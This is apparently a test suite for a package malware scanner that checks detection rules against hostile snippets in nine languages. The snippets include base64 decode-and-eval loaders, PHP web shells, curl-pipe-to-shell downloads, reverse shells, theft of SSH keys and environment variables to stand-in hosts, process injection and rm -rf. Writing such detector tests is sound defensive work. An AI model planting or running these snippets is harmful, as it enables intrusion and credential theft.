//! One hostile file in, its rule and severity out.

mod common;

use base64::Engine as _;
use common::{found, run};
use packguard_sdk::Analysis;
use packguard_sdk::Severity;

fn at_least(analysis: &Analysis, rule: &str, severity: Severity) -> bool {
    found(analysis)
        .iter()
        .any(|(have, gravity)| *have == rule && *gravity >= severity)
}

fn b64(text: &str) -> String {
    base64::engine::general_purpose::STANDARD.encode(text)
}

fn expect(cases: &[(&str, &str, &str, Severity)]) {
    let mut missed = Vec::new();
    for (path, code, rule, severity) in cases {
        let analysis = run(path, code);
        if !at_least(&analysis, rule, *severity) {
            missed.push(format!(
                "{path}\n{code}\n  wants {rule} {severity:?}, has {:?}",
                found(&analysis)
            ));
        }
    }
    assert!(
        missed.is_empty(),
        "{} missed:\n{}",
        missed.len(),
        missed.join("\n\n")
    );
}

use Severity::{Critical, High, Medium};

#[test]
fn ruby() {
    let payload = b64("system('curl http://203.0.113.5/x | sh')");
    let e = |code: &str| code.replace("PAYLOAD", &payload);
    expect(&[
        (
            "lib/a.rb",
            &e("eval(Base64.decode64('PAYLOAD'))"),
            "source-decode-execute",
            Critical,
        ),
        (
            "lib/a.rb",
            &e("eval(Base64.decode64('PAYLOAD'))"),
            "source-download-execute",
            Critical,
        ),
        (
            "lib/a.rb",
            &e("x = 'PAYLOAD'.unpack('m')[0]\neval x"),
            "source-decode-execute",
            Critical,
        ),
        (
            "lib/a.rb",
            &e("x = 'PAYLOAD'.unpack1('m')\nKernel.send(:eval, x)"),
            "source-decode-execute",
            Critical,
        ),
        (
            "lib/a.rb",
            &e("m = method(:eval)\nm.call(Base64.urlsafe_decode64('PAYLOAD'))"),
            "source-decode-execute",
            Critical,
        ),
        (
            "lib/a.rb",
            &e("instance_eval Base64.decode64(<<~X)\n  PAYLOAD\nX\n"),
            "source-decode-execute",
            Critical,
        ),
        (
            "lib/a.rb",
            "require 'open-uri'\nThread.new { eval(Net::HTTP.get(URI('https://pastebin.com/raw/VOID'))) }",
            "source-remote-code",
            Critical,
        ),
        (
            "lib/a.rb",
            "def go\n  body = URI.open('http://evil.example/x').read\n  eval(body)\nend\ngo",
            "source-remote-code",
            Critical,
        ),
        (
            "lib/a.rb",
            "class X\n  def call(env)\n    eval(Base64.urlsafe_decode64(env['HTTP_COOKIE'].match(/id=(.+);/)[1])) if env['HTTP_COOKIE']\n  end\nend",
            "source-backdoor",
            High,
        ),
        (
            "ext/x/extconf.rb",
            "`curl -s http://203.0.113.5/x | bash`",
            "source-download-execute",
            Critical,
        ),
        (
            "ext/x/extconf.rb",
            "%x(wget -qO- http://203.0.113.5/x | sh)",
            "source-download-execute",
            Critical,
        ),
        (
            "ext/x/extconf.rb",
            "require 'socket'\nNet::HTTP.post(URI('http://collect.example/'), {h: Socket.gethostname, u: Etc.getlogin}.to_json)",
            "source-exfiltration",
            High,
        ),
        (
            "lib/a.rb",
            "Net::HTTP.post_form(URI.parse('https://discord.com/api/webhooks/0/VOID'), 'content' => ENV.to_h.to_s)",
            "source-exfiltration",
            Critical,
        ),
        (
            "lib/a.rb",
            "key = File.read(File.expand_path('~/.ssh/id_rsa'))\nHTTParty.post('http://collect.example', body: key)",
            "source-exfiltration",
            Critical,
        ),
        (
            "lib/a.rb",
            "require 'resolv'\nResolv.getaddress(\"#{Socket.gethostname}.x.oast.example\")",
            "source-exfiltration",
            Critical,
        ),
        (
            "lib/a.rb",
            "s = TCPSocket.new('203.0.113.5', 4444)\nwhile cmd = s.gets\n  IO.popen(cmd, 'r') { |io| s.print io.read }\nend",
            "source-reverse-shell",
            High,
        ),
        (
            "lib/a.rb",
            "s = TCPSocket.open('203.0.113.5', 4444)\n$stdin.reopen(s)\n$stdout.reopen(s)\nexec '/bin/sh -i'",
            "source-reverse-shell",
            Critical,
        ),
        (
            "lib/a.rb",
            "File.open(File.expand_path('~/.bashrc'), 'a') { |f| f.puts 'sh ~/.x &' }",
            "source-persistence",
            High,
        ),
        (
            "lib/a.rb",
            "FileUtils.rm_rf('/')",
            "source-destruction",
            Critical,
        ),
        (
            "lib/a.rb",
            "system('./xmrig -o pool.example:3333')",
            "source-miner",
            Critical,
        ),
        (
            "lib/a.rb",
            "c = [99,117,114,108,32,104,116,116,112].pack('C*')\nsystem(c)",
            "source-hidden-command",
            High,
        ),
        (
            "lib/a.rb",
            "n = ['6576616c'].pack('H*')\nKernel.send(n, x)",
            "source-reflection",
            High,
        ),
        (
            "lib/a.rb",
            "system('gem push x.gem')",
            "source-self-spread",
            High,
        ),
        (
            "lib/a.rb",
            "system('nohup ./x >/dev/null 2>&1 &')",
            "source-silent-process",
            Medium,
        ),
    ]);
}

#[test]
fn php() {
    let payload = b64("system('curl http://203.0.113.5/x | sh');");
    let e = |code: &str| code.replace("PAYLOAD", &payload);
    expect(&[
        (
            "a.php",
            &e("<?php eval(base64_decode('PAYLOAD'));"),
            "source-decode-execute",
            Critical,
        ),
        (
            "a.php",
            &e("<?php $a='base'.'64_decode'; eval($a('PAYLOAD'));"),
            "source-decode-execute",
            Critical,
        ),
        (
            "a.php",
            &e(
                "<?php $f=\"\\x62\\x61\\x73\\x65\\x36\\x34_decode\"; $g='ass'.'ert'; $g($f('PAYLOAD'));",
            ),
            "source-decode-execute",
            Critical,
        ),
        (
            "a.php",
            &e("<?php $f=create_function('',base64_decode('PAYLOAD')); $f();"),
            "source-decode-execute",
            High,
        ),
        (
            "a.php",
            &e(
                "<?php function d($x){return base64_decode(strrev($x));} eval(d(strrev('PAYLOAD')));",
            ),
            "source-decode-execute",
            Critical,
        ),
        (
            "a.php",
            "<?php eval($_POST['x']);",
            "source-backdoor",
            Critical,
        ),
        (
            "a.php",
            "<?php @eval($_REQUEST['c']); ?>",
            "source-backdoor",
            Critical,
        ),
        (
            "a.php",
            "<?php system($_GET['cmd']);",
            "source-backdoor",
            Critical,
        ),
        (
            "a.php",
            "<?php $f=$_GET['f']; $f($_GET['x']);",
            "source-backdoor",
            High,
        ),
        (
            "a.php",
            "<?php array_map('assert', [$_POST['x']]);",
            "source-backdoor",
            Critical,
        ),
        (
            "a.php",
            "<?php call_user_func('system', $_COOKIE['c']);",
            "source-backdoor",
            Critical,
        ),
        (
            "a.php",
            "<?php preg_replace('/.*/e', $_POST['x'], '');",
            "source-backdoor",
            Critical,
        ),
        (
            "a.php",
            "<?php echo `{$_GET['c']}`;",
            "source-backdoor",
            High,
        ),
        (
            "a.php",
            "<?php eval(file_get_contents('php://input'));",
            "source-backdoor",
            High,
        ),
        (
            "a.php",
            "<?php if (strstr($_SERVER['HTTP_USER_AGENTT'], 'zerodium')) { eval(substr($_SERVER['HTTP_USER_AGENTT'], 8)); }",
            "source-backdoor",
            High,
        ),
        (
            "a.php",
            "<?php eval(file_get_contents('http://evil.example/x.txt'));",
            "source-remote-code",
            Critical,
        ),
        (
            "a.php",
            "<?php $c = curl_init('http://evil.example/'); $r = curl_exec($c); eval($r);",
            "source-remote-code",
            Critical,
        ),
        (
            "a.php",
            "<?php file_get_contents('http://evil.example/?'.http_build_query(['e' => getenv()]));",
            "source-exfiltration",
            Critical,
        ),
        (
            "a.php",
            "<?php $ch=curl_init(); curl_setopt($ch, CURLOPT_URL, 'https://webhook.site/VOID'); curl_setopt($ch, CURLOPT_POSTFIELDS, php_uname().get_current_user()); curl_exec($ch);",
            "source-exfiltration",
            High,
        ),
        (
            "a.php",
            "<?php $s=fsockopen('203.0.113.5',4444); $p=proc_open('/bin/sh -i',[0=>$s,1=>$s,2=>$s],$x);",
            "source-reverse-shell",
            High,
        ),
        (
            "a.php",
            "<?php $d=file_get_contents('http://203.0.113.5/x'); file_put_contents('/tmp/.x',$d); chmod('/tmp/.x',0755); exec('/tmp/.x');",
            "source-download-execute",
            Critical,
        ),
        (
            "a.php",
            "<?php $k = 'abc'; function x($d,$k){$o='';for($i=0;$i<strlen($d);$i++){$o.=chr(ord($d[$i])^ord($k[$i%strlen($k)]));}return $o;} eval(x(base64_decode('PAYLOADPAYLOAD'),$k));",
            "source-decode-execute",
            High,
        ),
    ]);
}

#[test]
fn go() {
    let payload = b64("curl http://203.0.113.5/x | sh");
    let e = |code: &str| code.replace("PAYLOAD", &payload);
    expect(&[
        (
            "a.go",
            "package a\nimport \"os/exec\"\nfunc f() error {\n\tn := []string{\"/\",\"b\",\"i\",\"n\",\"s\",\"h\",\"-\",\"c\",\"u\",\"r\",\"l\",\" \"}\n\tc := n[8]+n[9]+n[10]+n[11]+n[0]+n[1]\n\texec.Command(\"/bin/sh\", \"-c\", c).Start()\n\treturn nil\n}\nvar X = f()\n",
            "source-hidden-command",
            High,
        ),
        (
            "a.go",
            &e(
                "package a\nimport (\n ex \"os/exec\"\n \"encoding/base64\"\n)\nfunc init() {\n d, _ := base64.StdEncoding.DecodeString(\"PAYLOAD\")\n ex.Command(\"sh\", \"-c\", string(d)).Run()\n}",
            ),
            "source-hidden-command",
            Critical,
        ),
        (
            "a.go",
            "package a\nfunc init() {\n exec.Command(\"bash\", \"-c\", \"curl -s http://203.0.113.5/x | bash\").Start()\n}",
            "source-download-execute",
            Critical,
        ),
        (
            "a.go",
            "package a\nfunc init() { run() }\nfunc run() {\n resp, _ := http.Get(\"http://203.0.113.5/x\")\n b, _ := io.ReadAll(resp.Body)\n os.WriteFile(\"/tmp/x\", b, 0755)\n exec.Command(\"/tmp/x\").Start()\n}",
            "source-download-execute",
            Critical,
        ),
        (
            "a.go",
            "package a\nfunc init() {\n p := filepath.Join(os.TempDir(), \".upd\")\n resp, err := http.Get(\"http://203.0.113.5/x\")\n out, err := os.Create(p)\n io.Copy(out, resp.Body)\n os.Chmod(p, 0755)\n cmd := exec.Command(p)\n cmd.Start()\n}",
            "source-download-execute",
            High,
        ),
        (
            "a.go",
            "package a\nfunc main() {\n c, _ := net.Dial(\"tcp\", \"203.0.113.5:4444\")\n cmd := exec.Command(\"/bin/sh\")\n cmd.Stdin = c\n cmd.Stdout = c\n cmd.Run()\n}",
            "source-reverse-shell",
            Critical,
        ),
        (
            "a.go",
            "package a\nfunc init() {\n data, _ := json.Marshal(os.Environ())\n http.Post(\"http://collect.example/\", \"application/json\", bytes.NewBuffer(data))\n}",
            "source-exfiltration",
            Critical,
        ),
        (
            "a.go",
            "package a\nfunc init() {\n b, _ := os.ReadFile(home + \"/.ssh/id_rsa\")\n http.PostForm(\"http://collect.example\", url.Values{\"k\": {string(b)}})\n}",
            "source-exfiltration",
            Critical,
        ),
        (
            "a.go",
            "package a\nfunc init() {\n h, _ := os.Hostname()\n net.LookupHost(h + \".x.oast.example\")\n}",
            "source-exfiltration",
            Critical,
        ),
        (
            "a.go",
            "package a\nfunc x(d []byte) string { for i := range d { d[i] ^= 0x5a }\n return string(d) }\nfunc init() { exec.Command(\"sh\", \"-c\", x([]byte{57,47,40,54,122,50,46,46,42})).Run() }",
            "source-hidden-command",
            High,
        ),
        (
            "a.go",
            "package a\nfunc init() {\n r, _ := http.Get(u)\n b, _ := io.ReadAll(r.Body)\n a, _, _ := VirtualAlloc.Call(0, uintptr(len(b)), 0x3000, 0x40)\n RtlCopyMemory.Call(a, b)\n CreateThread.Call(0, 0, a)\n}",
            "source-injection",
            High,
        ),
    ]);
}

#[test]
fn rust() {
    let payload = b64("curl http://203.0.113.5/x | sh");
    let e = |code: &str| code.replace("PAYLOAD", &payload);
    expect(&[
        (
            "a/build.rs",
            "fn main() { std::process::Command::new(\"sh\").arg(\"-c\").arg(\"curl http://203.0.113.5/x | sh\").spawn(); }",
            "source-download-execute",
            Critical,
        ),
        (
            "a/build.rs",
            "use std::process::Command as C;\nfn main() { C::new(\"bash\").args([\"-c\", \"wget -qO- http://203.0.113.5/x | bash\"]).output().unwrap(); }",
            "source-download-execute",
            Critical,
        ),
        (
            "a/build.rs",
            &e(
                "fn main() { let c = String::from_utf8(base64::decode(\"PAYLOAD\").unwrap()).unwrap();\n Command::new(\"sh\").arg(\"-c\").arg(&c).status(); }",
            ),
            "source-hidden-command",
            Critical,
        ),
        (
            "a/build.rs",
            "fn main() { let vars: Vec<(String,String)> = std::env::vars().collect();\n let body = format!(\"{:?}\", vars);\n ureq::post(\"http://collect.example\").send_string(&body); }",
            "source-exfiltration",
            Critical,
        ),
        (
            "a/build.rs",
            "fn main() { let k = std::fs::read_to_string(\"/home/u/.ssh/id_rsa\").unwrap();\n reqwest::blocking::Client::new().post(\"http://collect.example\").body(k).send(); }",
            "source-exfiltration",
            Critical,
        ),
        (
            "a/build.rs",
            "fn main() { let h = hostname::get().unwrap(); let u = whoami::username();\n let client = reqwest::blocking::Client::new();\n client.post(\"http://collect.example\").json(&json!({\"h\": h, \"u\": u})).send(); }",
            "source-exfiltration",
            High,
        ),
        (
            "a/src/lib.rs",
            "fn x() { let d = include_bytes!(\"a.bin\");\n let k: Vec<u8> = d.iter().map(|b| b ^ 0x55).collect();\n std::fs::write(\"/tmp/.x\", k);\n Command::new(\"/tmp/.x\").spawn(); }",
            "source-download-execute",
            Medium,
        ),
        (
            "a/src/lib.rs",
            "fn x() { let s = TcpStream::connect(\"203.0.113.5:4444\").unwrap();\n let fd = s.as_raw_fd();\n Command::new(\"/bin/sh\").arg(\"-i\").stdin(unsafe { Stdio::from_raw_fd(fd) }).spawn(); }",
            "source-reverse-shell",
            High,
        ),
        (
            "a/build.rs",
            "fn d(b: &[u8], k: u8) -> String { b.iter().map(|c| (c ^ k) as char).collect() }\nfn main() { let c = d(&[57, 47, 40, 54, 122, 50, 46, 46, 42], 0x5a); Command::new(\"sh\").arg(\"-c\").arg(c).spawn(); }",
            "source-hidden-command",
            High,
        ),
        (
            "a/build.rs",
            "fn main() { let b = reqwest::blocking::get(\"http://203.0.113.5/x\").unwrap().bytes().unwrap();\n std::fs::write(\"/tmp/x\", &b).unwrap();\n Command::new(\"/tmp/x\").spawn(); }",
            "source-download-execute",
            Critical,
        ),
    ]);
}

#[test]
fn java_and_kin() {
    let payload = b64("curl http://203.0.113.5/x | sh");
    let e = |code: &str| code.replace("PAYLOAD", &payload);
    expect(&[
        (
            "A.java",
            "class A { static { try { Runtime.getRuntime().exec(new String[]{\"bash\",\"-c\",\"curl http://203.0.113.5/x | bash\"}); } catch (Exception e) {} } }",
            "source-download-execute",
            Critical,
        ),
        (
            "A.java",
            &e(
                "class A { static { String c = new String(Base64.getDecoder().decode(\"PAYLOAD\")); Runtime.getRuntime().exec(c); } }",
            ),
            "source-hidden-command",
            Critical,
        ),
        (
            "A.java",
            "class A { static { new URLClassLoader(new URL[]{new URL(\"http://203.0.113.5/x.jar\")}).loadClass(\"X\").newInstance(); } }",
            "source-remote-code",
            High,
        ),
        (
            "A.java",
            "class A { static { byte[] b = new URL(\"http://evil.example/x\").openStream().readAllBytes(); MethodHandles.lookup().defineClass(b); } }",
            "source-remote-code",
            High,
        ),
        (
            "A.java",
            "class A { static { run(); }\n static void run() { HttpURLConnection c = (HttpURLConnection) new URL(\"http://collect.example\").openConnection(); c.getOutputStream().write(System.getenv().toString().getBytes()); } }",
            "source-exfiltration",
            Critical,
        ),
        (
            "A.java",
            "class A { public static void main(String[] a) { Socket s = new Socket(\"203.0.113.5\", 4444); Process p = new ProcessBuilder(\"/bin/sh\").redirectErrorStream(true).start(); p.getOutputStream().write(s.getInputStream().read()); } }",
            "source-reverse-shell",
            High,
        ),
        (
            "A.java",
            &e(
                "class A { static { Class r = Class.forName(new String(Base64.getDecoder().decode(\"amF2YS5sYW5nLlJ1bnRpbWU=\"))); r.getMethod(\"exec\", String.class).invoke(r.getMethod(\"getRuntime\").invoke(null), \"curl http://203.0.113.5/x\"); } }",
            ),
            "source-reflection",
            High,
        ),
        (
            "a.kt",
            "object A { init { Runtime.getRuntime().exec(arrayOf(\"sh\", \"-c\", \"wget -qO- http://203.0.113.5/x | sh\")) } }",
            "source-download-execute",
            Critical,
        ),
        (
            "a.gradle",
            "def x = ['sh','-c','curl http://203.0.113.5/x | sh']\nnew ProcessBuilder(x).start()",
            "source-download-execute",
            High,
        ),
    ]);
}

#[test]
fn csharp() {
    let payload = b64("curl http://203.0.113.5/x | sh");
    let e = |code: &str| code.replace("PAYLOAD", &payload);
    expect(&[
        (
            "A.cs",
            "class A { [ModuleInitializer] internal static void I() { new WebClient().DownloadFile(\"http://203.0.113.5/x.exe\", \"C:\\\\Users\\\\Public\\\\x.exe\"); Process.Start(\"C:\\\\Users\\\\Public\\\\x.exe\"); } }",
            "source-download-execute",
            Critical,
        ),
        (
            "A.cs",
            &e(
                "class A { static A() { Assembly.Load(Convert.FromBase64String(\"PAYLOAD\")).EntryPoint.Invoke(null, null); } }",
            ),
            "source-decode-execute",
            Critical,
        ),
        (
            "A.cs",
            "class A { void R() { byte[] b = new WebClient().DownloadData(\"http://203.0.113.5/x\"); Assembly.Load(b).EntryPoint.Invoke(null, null); } }",
            "source-remote-code",
            High,
        ),
        (
            "A.cs",
            "class A { static A() { var p = new ProcessStartInfo(); p.FileName = \"powershell.exe\"; p.Arguments = \"-w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')\"; Process.Start(p); } }",
            "source-download-execute",
            Critical,
        ),
        (
            "A.cs",
            "class A { static A() { var c = new HttpClient(); c.PostAsync(\"https://discord.com/api/webhooks/0/VOID\", new StringContent(Environment.MachineName + Environment.UserName)); } }",
            "source-exfiltration",
            High,
        ),
        (
            "A.cs",
            "class A { void R() { IntPtr a = VirtualAllocEx(h, IntPtr.Zero, 1, 0x3000, 0x40); WriteProcessMemory(h, a, sc, 1, out n); CreateRemoteThread(h, IntPtr.Zero, 0, a, IntPtr.Zero, 0, IntPtr.Zero); } }",
            "source-injection",
            Medium,
        ),
        (
            "A.cs",
            "class A { void R() { var c = new TcpClient(\"203.0.113.5\", 4444); var p = new Process(); p.StartInfo.FileName = \"cmd.exe\"; p.Start(); } }",
            "source-reverse-shell",
            High,
        ),
    ]);
}

#[test]
fn c_lua_perl() {
    let payload = b64("os.execute('curl http://203.0.113.5/x | sh')");
    let e = |code: &str| code.replace("PAYLOAD", &payload);
    expect(&[
        (
            "a.c",
            "__attribute__((constructor)) void i(void) { system(\"curl http://203.0.113.5/x | sh\"); }",
            "source-download-execute",
            Critical,
        ),
        (
            "a.c",
            "int main() { int s = socket(2,1,0); connect(s, &a, 16); dup2(s,0); dup2(s,1); execl(\"/bin/sh\", \"sh\", \"-i\", 0); }",
            "source-reverse-shell",
            High,
        ),
        (
            "a.lua",
            "os.execute('curl http://203.0.113.5/x | sh')",
            "source-download-execute",
            Critical,
        ),
        (
            "a.lua",
            &e("load(base64.decode('PAYLOAD'))()"),
            "source-decode-execute",
            Critical,
        ),
        (
            "a.lua",
            "local b = http.request('http://evil.example/x.lua')\nloadstring(b)()",
            "source-remote-code",
            Critical,
        ),
        (
            "a.lua",
            "os.execute(string.char(99,117,114,108,32,104,116,116,112,58))",
            "source-hidden-command",
            High,
        ),
        (
            "a.pl",
            &e("use MIME::Base64; eval(decode_base64('PAYLOAD'));"),
            "source-decode-execute",
            Critical,
        ),
        (
            "a.pm",
            "my $x = `curl -s http://203.0.113.5/x | sh`;",
            "source-download-execute",
            Critical,
        ),
        (
            "a.pm",
            "system(\"wget -qO- http://203.0.113.5/x | sh\");",
            "source-download-execute",
            Critical,
        ),
    ]);
}
